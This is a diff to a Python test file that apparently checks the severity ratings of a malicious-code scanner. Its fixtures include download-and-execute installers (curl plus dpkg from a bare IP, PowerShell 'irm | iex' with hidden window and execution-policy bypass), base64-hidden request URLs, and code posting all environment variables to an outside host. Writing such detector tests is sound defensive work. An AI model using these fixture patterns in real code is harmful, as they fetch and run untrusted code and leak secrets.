@@ -43,7 +43,7 @@ def test_what_is_handed_to_somebody_unknown_is_told() -> None:
 
 
 @pytest.mark.parametrize(
-    ("name", "severity"), [("OTHER_DELAY", None), ("which", Severity.CRITICAL)]
+    ("name", "severity"), [("OTHER_DELAY", None), ("which", Severity.HIGH)]
 )
 def test_a_constant_of_a_library_names_one_variable(name: str, severity: Severity | None) -> None:
     assert worst("stealer", READS.format(name=name)) is severity
@@ -246,3 +246,61 @@ def test_code_from_where_a_caller_says() -> None:
     assert asked is not None
     assert asked < Severity.CRITICAL
     assert worst("dropper", CODE.format(url="'http://1.2.3.4/x'")) is Severity.CRITICAL
+
+
+def test_a_package_of_the_machine_from_a_named_host() -> None:
+    runs = (
+        "from os import system\nURL = '{host}/get/tool-linux.deb'\ndef install():\n"
+        "    system(f'curl -LO {{URL}}')\n    system('sudo dpkg -i tool-linux.deb{more}')\n"
+    )
+    named, number = "https://www.tool.example", "http://1.2.3.4"
+    assert worst("dropper", runs.format(host=named, more=" && rm tool-linux.deb")) is Severity.HIGH
+    assert worst("dropper", runs.format(host=named, more="; ./x")) is Severity.CRITICAL
+    assert worst("dropper", runs.format(host=number, more="")) is Severity.CRITICAL
+    early = runs.format(host=named, more="") + "install()\n"
+    assert worst("dropper", early, INIT) is Severity.CRITICAL
+
+
+def test_an_installer_by_powershell_from_a_named_host() -> None:
+    asks = "import subprocess\ndef install():\n    subprocess.run('powershell -ExecutionPolicy Bypass {}')\n"
+    named = '-c "irm https://tool.example/install.ps1 | iex"'
+    assert worst("attack-command", asks.format(named)) is Severity.HIGH
+    for worse in (
+        '-c "irm http://tool.example/install.ps1 | iex"',
+        '-w hidden -c "irm https://tool.example/install.ps1 | iex"',
+        '-c "irm https://1.2.3.4/install.ps1 | iex"',
+    ):
+        assert worst("attack-command", asks.format(worse)) is Severity.CRITICAL
+
+
+def test_what_is_decoded_behind_a_host_is_not_the_host() -> None:
+    opens = (
+        "import base64, requests\ndef ask(login):\n"
+        "    requests.get('https://a.example.com/?token=' + str(base64.b64decode(login.told)))\n"
+    )
+    assert (worst("hidden-name", opens) or 0) <= Severity.MEDIUM
+    hides = (
+        "import base64, requests\ndef ask():\n"
+        "    requests.get(base64.b64decode('aHR0cHM6Ly9hLmV4YW1wbGUuY29tLz90b2tlbj0x').decode())\n"
+    )
+    assert worst("hidden-name", hides) is Severity.CRITICAL
+
+
+def test_a_program_that_carries_its_interpreter_is_no_import() -> None:
+    text = "import os, sys\ndef main():\n    os.system('nohup /opt/x &')\nif {}:\n    main()\n"
+    for asked in ("getattr(sys, 'frozen', False)", "hasattr(sys, '_MEIPASS')"):
+        assert worst("import-process", text.format(asked), INIT) is None
+    assert worst("import-process", text.format("sys.argv"), INIT) is not None
+
+
+ENVIRONMENT = """
+import os, re, requests
+def ask(template):
+    names = re.findall("{{(.*?)}}", template.text)
+    requests.post("https://a.example.com/", data=[{what} for one in names])
+"""
+
+
+def test_variables_by_names_that_are_worked_out() -> None:
+    assert worst("stealer", ENVIRONMENT.format(what="os.environ[one]")) in {None, Severity.HIGH}
+    assert worst("stealer", ENVIRONMENT.format(what="dict(os.environ)")) is Severity.CRITICAL
